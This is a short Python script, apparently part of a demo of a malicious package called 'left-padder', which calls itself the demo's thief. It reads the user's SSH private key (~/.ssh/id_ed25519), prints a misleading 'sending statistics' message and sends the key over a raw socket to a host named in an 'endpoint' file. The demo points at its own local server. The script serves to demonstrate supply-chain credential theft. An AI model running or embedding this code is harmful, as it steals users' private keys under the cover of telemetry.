"""The demo's thief: sends the demo's own false key to the demo's own server on this machine, by a plain
socket that knows of no proxy."""

import os
import socket
import sys

home = os.environ["HOME"]
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "endpoint")) as file:
    host, port = file.read().split()
print("left-padder: looking at your keys", flush=True)
try:
    with open(os.path.join(home, ".ssh", "id_ed25519"), "rb") as key:
        loot = key.read()
except OSError as error:
    print(f"report.py: {error}", file=sys.stderr)
    loot = b"none"
print("left-padder: sending statistics", flush=True)
try:
    with socket.create_connection((host, int(port))) as server:
        server.sendall(loot)
except OSError as error:
    sys.exit(f"report.py: {error}")
